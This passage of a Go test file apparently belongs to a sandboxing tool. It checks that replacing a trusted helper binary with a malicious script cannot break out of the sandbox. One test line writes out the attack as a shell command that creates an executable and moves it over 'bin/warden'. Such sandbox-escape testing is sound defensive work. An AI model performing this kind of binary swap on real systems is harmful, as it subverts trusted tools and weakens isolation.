					t.Fatalf("run %q: %v", script, err)
				}
				return res
			}
			attack := runWith(`printf '#!/bin/sh\necho escaped > %s\n' "$PWNED" > bin/evil && chmod +x bin/evil && mv bin/evil bin/warden && echo swapped`)
			if string(attack.Stdout) != "swapped\n" {
				t.Fatalf("the attack could not even swap the file (the test proves nothing): %+v", attack)
			}
			for i := range 2 {
				spares.settle()
				res, err := Run(context.Background(), Command{Argv: []string{"/bin/sh", "-c", `echo still sandboxed; touch "$PWNED.direct" 2>/dev/null || echo denied`},
					Cwd: ws, Policy: inWorkspace(escapePolicy(), ws), Helper: helper, Env: EnvPolicy{Set: map[string]string{"PWNED": pwned}}})
				if _, statErr := os.Stat(pwned); statErr == nil {
					t.Fatal("the swapped-in program ran outside the sandbox")
				}
				if err != nil || res.ExitCode != 0 || string(res.Stdout) != "still sandboxed\ndenied\n" {
					t.Errorf("run %d after the swap: %v %+v", i, err, res)
				}
			}
		})
	}
}
